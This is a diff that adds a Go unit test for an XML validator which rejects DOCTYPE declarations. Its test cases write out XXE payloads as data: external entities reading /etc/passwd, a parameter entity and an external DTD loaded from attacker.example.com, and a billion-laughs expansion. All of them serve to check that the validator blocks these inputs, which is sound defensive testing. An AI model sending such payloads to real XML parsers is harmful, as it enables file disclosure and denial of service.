@@ -0,0 +1,78 @@
+package validation
+
+import (
+	"errors"
+	"testing"
+)
+
+func TestValidateNoDoctype(t *testing.T) {
+	tests := []struct {
+		name    string
+		xml     string
+		wantErr bool
+	}{
+		{
+			name: "Plain_Document",
+			xml:  `<?xml version="1.0" encoding="UTF-8"?><TrustServiceStatusList><SchemeName>Test</SchemeName></TrustServiceStatusList>`,
+		},
+		{
+			name: "Comment_Mentioning_Doctype",
+			xml:  `<TrustServiceStatusList><!-- <!DOCTYPE foo> --></TrustServiceStatusList>`,
+		},
+		{
+			name: "CDATA_Mentioning_Entity",
+			xml:  `<TrustServiceStatusList><![CDATA[<!ENTITY xxe SYSTEM "file:///etc/passwd">]]></TrustServiceStatusList>`,
+		},
+		{
+			name:    "External_Entity",
+			xml:     `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
+			wantErr: true,
+		},
+		{
+			name:    "Parameter_Entity",
+			xml:     `<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example.com/evil.dtd"> %remote;]><foo/>`,
+			wantErr: true,
+		},
+		{
+			name:    "Billion_Laughs",
+			xml:     `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`,
+			wantErr: true,
+		},
+		{
+			name:    "External_DTD",
+			xml:     `<!DOCTYPE foo SYSTEM "http://attacker.example.com/evil.dtd"><foo/>`,
+			wantErr: true,
+		},
+		{
+			name:    "Lower_Case_And_Newline",
+			xml:     "<!doctype\nfoo><foo/>",
+			wantErr: true,
+		},
+		{
+			name:    "Doctype_After_Root_Element",
+			xml:     `<foo><!DOCTYPE bar [<!ENTITY x "y">]></foo>`,
+			wantErr: true,
+		},
+		{
+			name:    "Malformed_Document",
+			xml:     `<foo><bar></foo><!DOCTYPE x>`,
+			wantErr: true,
+		},
+		{
+			name: "Malformed_Without_Doctype",
+			xml:  `<foo><bar></foo>`,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := ValidateNoDoctype([]byte(tt.xml))
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("ValidateNoDoctype() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if err != nil && !errors.Is(err, ErrDoctype) {
+				t.Errorf("ValidateNoDoctype() error = %v, want ErrDoctype", err)
+			}
+		})
+	}
+}